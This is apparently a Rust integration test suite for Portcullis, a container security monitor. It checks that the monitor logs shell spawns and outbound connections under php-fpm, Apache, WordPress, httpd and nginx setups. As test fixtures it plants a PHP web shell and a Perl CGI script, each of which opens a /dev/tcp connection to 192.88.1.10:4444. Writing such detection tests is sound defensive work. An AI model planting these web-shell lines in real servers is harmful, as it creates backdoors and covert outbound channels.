//! The layouts of well-known images, with the package's own configuration: what events there are the engine collects.

mod image;

use crate::harness::{Listeners, Parts, http, named, wait_until};
use image::{Container, Options, file, image, library};
use serde_json::Value;

/// What a web shell does: it starts a shell, which starts another and connects to an uncommon port; both say nothing.
const SHELL: &str =
    "<?php echo shell_exec('bash -c \"exec 3<>/dev/tcp/192.88.1.10/4444\" > /dev/null 2>&1; echo done');\n";
const PAGE: &str = "/var/www/html/index.php";

/// The rules and programs of the events of one such request, without what Portcullis says of itself.
fn done(events: &[Value]) -> Vec<(String, String)> {
    let own = |event: &&Value| event.text("rule.id") != "guard-policy";
    events
        .iter()
        .filter(own)
        .map(|event| (event.text("rule.id").to_owned(), event.text("process.name").to_owned()))
        .collect()
}

fn expected() -> Vec<(String, String)> {
    [("shell-spawn", "sh"), ("shell-spawn", "bash"), ("egress-port", "bash")]
        .map(|(one, two)| (one.into(), two.into()))
        .to_vec()
}

/// That every event was delivered, each in a line of its own, and that it is said where they go.
fn is_whole(container: &Container, about: &str) {
    let events = container.events(expected().len());
    assert_eq!(done(&events), expected(), "{about}: {}", container.log());
    for event in &events {
        assert_eq!(event["portcullis"]["dropped"], 0, "{about}: {event}");
    }
    let said = events.iter().filter(|event| event.text("rule.id") == "guard-policy");
    let said: Vec<&str> = said.filter_map(|event| event["message"].as_str()).collect();
    assert!(
        said.iter().any(|said| said.contains("the standard error of the container's first process")),
        "{about}: {said:?}"
    );
    let status = container.portcullis(&["status"]);
    assert!(
        status.contains(
            "events go to the standard error of the container's first process: journald could not be reached"
        ),
        "{about}: {status}"
    );
}

/// The files of `php:*-fpm`: docker.conf and zz-docker.conf beside the pool, in /usr/local.
fn php_fpm() -> String {
    let server = named("/usr/sbin/php-fpmX.Y");
    file(
        "/usr/local/etc/php-fpm.conf",
        "[global]\nerror_log = /proc/self/fd/2\nlog_limit = 8192\ndaemonize = no\n[www]\nuser = www-data\ngroup = www-data\n\
         listen = 127.0.0.1:9000\npm = dynamic\npm.max_children = 5\npm.start_servers = 2\npm.min_spare_servers = 1\n\
         pm.max_spare_servers = 3\naccess.log = /proc/self/fd/2\nclear_env = no\ncatch_workers_output = yes\n\
         decorate_workers_output = no\n",
    );
    file(
        "/usr/local/bin/docker-php-entrypoint",
        "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then\n\tset -- php-fpm \"$@\"\nfi\nexec \"$@\"\n",
    );
    file(PAGE, SHELL);
    server
}

/// Asks PHP-FPM for the page, as a server in another container does.
fn asked() -> String {
    let params = |params: &[(&str, &str)]| -> Vec<u8> {
        let one = |(name, value): &(&str, &str)| {
            [&[name.len() as u8, value.len() as u8], name.as_bytes(), value.as_bytes()].concat()
        };
        params.iter().flat_map(one).collect()
    };
    let params = params(&[
        ("SCRIPT_FILENAME", PAGE),
        ("REQUEST_METHOD", "GET"),
        ("REQUEST_URI", "/index.php"),
        ("SERVER_SOFTWARE", "nginx/1.27"),
        ("SERVER_NAME", "shop"),
        ("DOCUMENT_ROOT", "/var/www/html"),
        ("REMOTE_ADDR", "192.0.2.7"),
    ]);
    let record = |kind: u8, content: &[u8]| {
        let [high, low] = (content.len() as u16).to_be_bytes();
        [&[1, kind, 0, 1, high, low, 0, 0], content].concat()
    };
    let bytes = [record(1, &[0, 1, 0, 0, 0, 0, 0, 0]), record(4, &params), record(4, &[]), record(5, &[])].concat();
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", 9000)).expect("PHP-FPM");
    std::io::Write::write_all(&mut stream, &bytes).expect("a request");
    let mut answer = Vec::new();
    // PHP-FPM does not read the end of a body that there is not, and resets the connection behind its answer.
    let _ = std::io::Read::read_to_end(&mut stream, &mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// Whoever the container's user is, whether its root can be written to, and however the server was started.
#[test]
fn php_fpm_writes_to_the_containers_standard_error() {
    let _place = image();
    let _listeners = Listeners::on(&[4444]);
    let server = php_fpm();
    let library = library();
    let preload = ("LD_PRELOAD", library.as_str());
    let by_hand = &["docker-php-entrypoint", &server, "-y", "/usr/local/etc/php-fpm.conf", "-F"][..];
    let by_run = &["portcullis", "run", "--config", "/etc/portcullis/portcullis.toml", "--"];
    let by_run = &[&by_run[..], by_hand].concat()[..];
    for (about, options, command) in [
        ("as root", Options { env: &[preload], ..Options::default() }, by_hand),
        ("read-only", Options { env: &[preload], is_read_only: true, ..Options::default() }, by_hand),
        ("a user", Options { env: &[preload], is_read_only: true, user: Some(33) }, by_hand),
        ("portcullis run", Options::default(), by_run),
        ("portcullis run, read-only", Options { is_read_only: true, ..Options::default() }, by_run),
        ("portcullis run, a user", Options { is_read_only: true, user: Some(33), ..Options::default() }, by_run),
    ] {
        let container = Container::start(options, command, 9000);
        assert!(asked().contains("done"), "{about}: {}", container.log());
        is_whole(&container, about);
        if command == by_run {
            assert!(
                container.log().contains("cannot reach journald: events go to the standard error"),
                "{}",
                container.log()
            );
        }
        let event = container.events(3).into_iter().find(|event| event.text("rule.id") == "egress-port").expect("one");
        assert_eq!((event.text("url.original"), event.text("client.ip")), ("/index.php", "192.0.2.7"), "{about}");
    }
}

/// Apache's modules of an image, by the distribution's names.
fn apache(modules: &[(&str, &str)], root: &str, rest: &str) -> String {
    let load = |(name, file): &(&str, &str)| format!("LoadModule {name}_module /usr/lib/apache2/modules/{file}.so\n");
    let load: String = modules.iter().map(load).collect();
    format!(
        "ServerRoot {root}\nServerName localhost\nListen 127.0.0.1:8080\nPidFile /tmp/httpd.pid\nDefaultRuntimeDir /tmp\n\
         {load}User www-data\nGroup www-data\nErrorLog /proc/self/fd/2\n\
         LogFormat \"%h \\\"%r\\\" %>s\" common\nCustomLog /proc/self/fd/1 common\n\
         LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so\n{rest}"
    )
}

/// The files of `php:*-apache` and, upon it, of `wordpress`, whose entry point makes the site first.
fn php_apache() {
    let modules = [("mpm_prefork", "mod_mpm_prefork"), ("php", &named("libphpX.Y"))];
    let rest = "DocumentRoot /var/www/html\n<Directory /var/www/html>\nRequire all granted\n</Directory>\n\
                <FilesMatch \\.php$>\nSetHandler application/x-httpd-php\n</FilesMatch>\n";
    file("/etc/apache2/apache2.conf", &apache(&modules, "/etc/apache2", rest));
    file(
        "/usr/local/bin/apache2-foreground",
        "#!/bin/bash\nset -e\n: \"${APACHE_CONFDIR:=/etc/apache2}\"\nexec apache2 -f /etc/apache2/apache2.conf -DFOREGROUND \"$@\"\n",
    );
    file("/usr/src/wordpress/index.php", SHELL);
    file(
        "/usr/local/bin/docker-entrypoint.sh",
        "#!/usr/bin/env bash\nset -Eeuo pipefail\nif [ ! -e index.php ]; then\n\ttar --create --file - --directory /usr/src/wordpress . | \
         tar --extract --file -\nfi\nexec \"$@\"\n",
    );
}

/// What the image was built with is in force where the configuration and the command are not there, and there is no policy in /run.
#[test]
fn a_policy_of_the_image_needs_no_command() {
    let _place = image();
    let _listeners = Listeners::on(&[4444]);
    php_apache();
    file("/etc/portcullis/portcullis.toml", "mode = \"enforce\"\n");
    let compiled = std::process::Command::new("portcullis").args(["compile", "-o", "/etc/portcullis/policy"]).output();
    let compiled = compiled.expect("portcullis");
    assert!(compiled.status.success(), "{}", String::from_utf8_lossy(&compiled.stderr));
    std::fs::remove_file("/etc/portcullis/portcullis.toml").expect("the configuration");
    std::fs::remove_file("/usr/bin/portcullis").expect("the command");
    // As `ENV` has it: the loader puts the folder of the architecture there.
    let options = Options { env: &[("LD_PRELOAD", "/usr/$LIB/libportcullis.so")], ..Options::default() };
    for command in [&["apache2-foreground"][..], &["docker-entrypoint.sh", "apache2-foreground"]] {
        file(PAGE, SHELL);
        if command.len() == 2 {
            std::fs::remove_file(PAGE).expect("the page, which the entry point makes");
        }
        let container = Container::start(options, command, 8080);
        let answer = http::get(8080, "/index.php");
        assert_eq!((answer.status, answer.body.as_str()), (200, ""), "{command:?}: {}", container.log());
        let events = container.events(1);
        assert_eq!(done(&events), expected()[..1], "{command:?}: {}", container.log());
        assert!(events.iter().any(|event| event["event"]["outcome"] == "failure"), "{events:#?}");
    }
}

/// The files of `httpd`: all of it in /usr/local/apache2.
#[test]
fn httpd_writes_what_its_cgi_programs_do() {
    let _place = image();
    let _listeners = Listeners::on(&[4444]);
    let modules = [("mpm_event", "mod_mpm_event"), ("cgid", "mod_cgid"), ("alias", "mod_alias")];
    let rest = "DocumentRoot /usr/local/apache2/htdocs\nScriptSock /tmp/cgisock\n\
                ScriptAlias /cgi-bin/ /usr/local/apache2/cgi-bin/\n\
                <Directory /usr/local/apache2/cgi-bin>\nRequire all granted\n</Directory>\n";
    file("/usr/local/apache2/conf/httpd.conf", &apache(&modules, "/usr/local/apache2", rest));
    std::fs::create_dir_all("/usr/local/apache2/htdocs").expect("a folder");
    std::fs::create_dir_all("/var/www/html").expect("a folder");
    file(
        "/usr/local/apache2/cgi-bin/test.cgi",
        "#!/usr/bin/perl\nsystem('exec 2> /dev/null; bash -c \"exec 3<>/dev/tcp/192.88.1.10/4444\"; :');\n\
         print \"Content-Type: text/plain\\n\\ndone\";\n",
    );
    file(
        "/usr/local/bin/httpd-foreground",
        "#!/bin/sh\nset -e\nrm -f /tmp/httpd.pid\nexec apache2 -f /usr/local/apache2/conf/httpd.conf -DFOREGROUND \"$@\"\n",
    );
    let library = library();
    for (about, options) in [
        ("as root", Options { env: &[("LD_PRELOAD", &library)], ..Options::default() }),
        ("a user", Options { env: &[("LD_PRELOAD", &library)], is_read_only: true, user: Some(33) }),
    ] {
        let container = Container::start(options, &["httpd-foreground"], 8080);
        let answer = http::get(8080, "/cgi-bin/test.cgi");
        assert_eq!(answer.body, "done", "{about}: {}", container.log());
        let events = container.events(4);
        let found = done(&events);
        let behind = found.split_at(found.len().saturating_sub(3)).1;
        assert_eq!(behind, expected(), "{about}: {}", container.log());
        assert!(events.iter().all(|event| event["portcullis"]["dropped"] == 0), "{about}: {events:#?}");
    }
}

/// The files of `nginx`, and of its image without privileges: it has a user of its own, and nothing to write to.
#[test]
fn nginx_says_where_its_events_go() {
    let _place = image();
    std::fs::create_dir_all("/var/www/html").expect("a folder");
    file(
        "/etc/nginx/nginx.conf",
        "pid /tmp/nginx.pid;\nerror_log /dev/stderr notice;\nevents {}\nhttp {\nclient_body_temp_path /tmp/1; proxy_temp_path /tmp/2;\n\
         fastcgi_temp_path /tmp/3; uwsgi_temp_path /tmp/4; scgi_temp_path /tmp/5; access_log /dev/stdout;\n\
         server { listen 127.0.0.1:8080; location / { return 200 done; } } }\n",
    );
    file("/usr/local/bin/docker-entrypoint.sh", "#!/bin/sh\nset -e\nexec \"$@\"\n");
    for link in [("/proc/self/fd/2", "/dev/stderr"), ("/proc/self/fd/1", "/dev/stdout")] {
        std::os::unix::fs::symlink(link.0, link.1).expect("a link");
    }
    let library = library();
    let options = Options { env: &[("LD_PRELOAD", library.as_str())], is_read_only: true, user: Some(33) };
    let container =
        Container::start(options, &["/usr/local/bin/docker-entrypoint.sh", "nginx", "-g", "daemon off;"], 8080);
    assert_eq!(http::get(8080, "/").body, "done");
    wait_until("what is said", || !container.events(0).is_empty());
    let events = container.events(0);
    let [said] = events.as_slice() else { panic!("{}", container.log()) };
    assert!(said.text("message").contains("the standard error of the container's first process"), "{said}");
    // What the host has is told from it.
    let status = crate::harness::built().join("portcullis");
    let status = std::process::Command::new(status).args(["status", "--json"]).output().expect("portcullis");
    let status: Value = serde_json::from_slice(&status.stdout).expect("JSON");
    let namespace = std::fs::metadata(format!("/proc/{}/ns/pid", container.first())).expect("the container's");
    let namespace = std::os::unix::fs::MetadataExt::ino(&namespace);
    let units = status["units"].as_array().expect("units");
    let own = units.iter().find(|unit| unit["container"]["pid_namespace"] == namespace).expect("the container");
    assert_eq!(own["unit"], "");
    assert!(own["events_go_to"].as_str().expect("a place").starts_with("the standard error of"), "{own}");
}

/// Descriptor 2 of a server that has closed its standard error may be anything: a file of data, or the next client's connection.
#[test]
fn only_what_was_standard_error_is_written_to() {
    let _place = image();
    std::fs::create_dir_all("/var/www/html").expect("a folder");
    let server = "import fcntl, os, socket, subprocess, sys
other = fcntl.fcntl(os.open('/dev/null', os.O_RDWR), fcntl.F_DUPFD, 10)
listener = socket.create_server(('127.0.0.1', 9000))
if sys.argv[1] == 'file':
    os.dup2(os.open('/var/www/html/data', os.O_RDWR | os.O_CREAT, 0o644), 2)
    os.write(2, b'data')
while True:
    client, _ = listener.accept()
    number = client.fileno()
    if sys.argv[1] == 'client':
        number = os.dup2(number, 2)
    if client.recv(16) == b'go':
        subprocess.run(['/bin/sh', '-c', 'true'])
        os.write(number, b'done')
    client.close()
    if sys.argv[1] == 'client':
        os.dup2(other, 2)
";
    file("/var/www/html/server.py", server);
    let python = named("/usr/bin/python3");
    for is_of in ["file", "client"] {
        let script = format!("exec 2>&-; LD_PRELOAD={} exec {python} /var/www/html/server.py {is_of}", library());
        let container = Container::start(Options::default(), &["sh", "-ec", &script], 9000);
        let mut client = std::net::TcpStream::connect(("127.0.0.1", 9000)).expect("the server");
        client.set_read_timeout(Some(std::time::Duration::from_secs(20))).expect("a limit");
        std::io::Write::write_all(&mut client, b"go").expect("a request");
        let mut answer = String::new();
        std::io::Read::read_to_string(&mut client, &mut answer).expect("an answer");
        assert_eq!(answer, "done", "{is_of}");
        if is_of == "file" {
            assert_eq!(std::fs::read_to_string("/var/www/html/data").expect("the file"), "data");
        }
        let status = container.portcullis(&["status"]);
        assert!(status.contains("EVENTS LOST"), "{is_of}: it is said: {status}");
    }
}

/// The text below a line of the example for Kubernetes that ends in `|`.
fn block(after: &str) -> String {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/examples/containers/kubernetes.yaml");
    let text = std::fs::read_to_string(path).expect("the example");
    let (_, rest) = text.split_once(after).unwrap_or_else(|| panic!("no {after}"));
    let indent = rest.len() - rest.trim_start_matches(' ').len();
    let lines = rest
        .lines()
        .map_while(|line| line.get(..indent).filter(|begin| begin.trim().is_empty()).and(line.get(indent..)));
    lines.map(|line| format!("{line}\n")).collect()
}

/// What the example's init container does, as its user, is enough for a server of that user without a configuration and a command.
#[test]
fn the_pod_of_the_example_is_guarded() {
    let _place = image();
    let _listeners = Listeners::on(&[4444]);
    let server = php_fpm();
    file("/etc/portcullis/portcullis.toml", &block("  portcullis.toml: |\n"));
    // The volume, which Kubernetes opens to all.
    file("/run/portcullis/empty", "");
    std::fs::remove_file("/run/portcullis/empty").expect("a file");
    let open = std::os::unix::fs::PermissionsExt::from_mode(0o777);
    std::fs::set_permissions("/run/portcullis", open).expect("permissions");
    let script = block("- -ec\n            - |\n");
    let mut init = std::process::Command::new("setpriv");
    init.args(["--reuid=33", "--regid=33", "--clear-groups", "sh", "-ec", &script]);
    let done_by = init.output().expect("the init container");
    assert!(done_by.status.success(), "{script}{}", String::from_utf8_lossy(&done_by.stderr));
    std::fs::remove_file("/etc/portcullis/portcullis.toml").expect("the configuration");
    std::fs::remove_file(library()).expect("the library");
    let options =
        Options { env: &[("LD_PRELOAD", "/run/portcullis/libportcullis.so")], user: Some(33), ..Options::default() };
    let command = ["docker-php-entrypoint", &server, "-y", "/usr/local/etc/php-fpm.conf", "-F"];
    let container = Container::start(options, &command, 9000);
    assert!(asked().contains("done"), "{}", container.log());
    let events = container.events(3);
    assert_eq!(done(&events), expected(), "{}", container.log());
    assert_eq!(events.len(), 3, "nothing is said: {}", container.log());
    // A limit that docs/containers.md has: the library lies where others may write, and is not of root's.
    let status = container.portcullis(&["status"]);
    assert!(status.contains("Nothing is guarded"), "{status}");
}
